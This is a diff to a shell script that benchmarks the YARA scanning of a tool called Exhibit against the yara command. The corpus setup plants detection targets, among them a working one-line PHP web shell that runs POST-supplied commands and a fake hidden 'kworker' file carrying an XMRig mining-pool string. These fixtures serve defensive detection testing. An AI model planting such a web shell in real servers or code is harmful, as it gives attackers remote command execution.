@@ -20,7 +20,8 @@
 #   yara             `yara -r -p THREADS RULES DIR`, the peer: the same
 #                    files on disk, the same rules (its default mode, as
 #                    Exhibit's: every match recorded, up to a cap).
-# Exhibit's YARA time is the `duration_ms` its JSON summary reports for
+# Every file is scanned (--yara-max-size 4G: the corpus's SQL dump is over
+# the default cap). Exhibit's YARA time is the `duration_ms` its JSON summary reports for
 # the YARA pass (read and scan), with the bytes it scanned; the total wall
 # time of the command is printed beside it. Prints MB/s and the ratio to
 # yara's. Needs: python3, yara (apt-get install yara), GNU time.
@@ -47,8 +48,9 @@ command -v yara >/dev/null || { echo "no yara command (apt-get install yara)" >&
 command -v python3 >/dev/null || { echo "python3 is needed" >&2; exit 2; }
 
 CORPUS=$WORK/corpus-$SCALE
-if [ ! -d "$CORPUS" ]; then
-  python3 benches/gen_corpus.py "$CORPUS" --scale "$SCALE" >/dev/null
+[ -d "$CORPUS" ] || python3 benches/gen_corpus.py "$CORPUS" --scale "$SCALE" >/dev/null
+if [ ! -f "$CORPUS/opt/cron/backup.sh" ]; then
+  rm -rf "$WORK/archive-$SCALE"
   mkdir -p "$CORPUS/var/www/html/uploads" "$CORPUS/tmp/.x" "$CORPUS/opt/cron"
   printf '<?php if(isset($_POST["c"])){ system($_POST["c"]); } ?>\n' > "$CORPUS/var/www/html/uploads/thumb.php"
   { head -c 4096 /bin/true; printf '\0stratum+tcp://pool.example.net:4444\0XMRig\0'; } > "$CORPUS/tmp/.x/kworker"
@@ -83,7 +85,7 @@ exhibit_run() {
   for r in $(seq 1 "$RUNS"); do
     local t0 t1
     t0=$(now)
-    "$BIN" scan "$snap" --yara "$RULES" --json -q > "$OUT/$name.$r.json" || true
+    "$BIN" scan "$snap" --yara "$RULES" --yara-max-size 4G --json -q > "$OUT/$name.$r.json" || true
     t1=$(now)
     python3 - "$OUT/$name.$r.json" "$t0" "$t1" >> "$OUT/$name" <<'PY'
 import json, sys
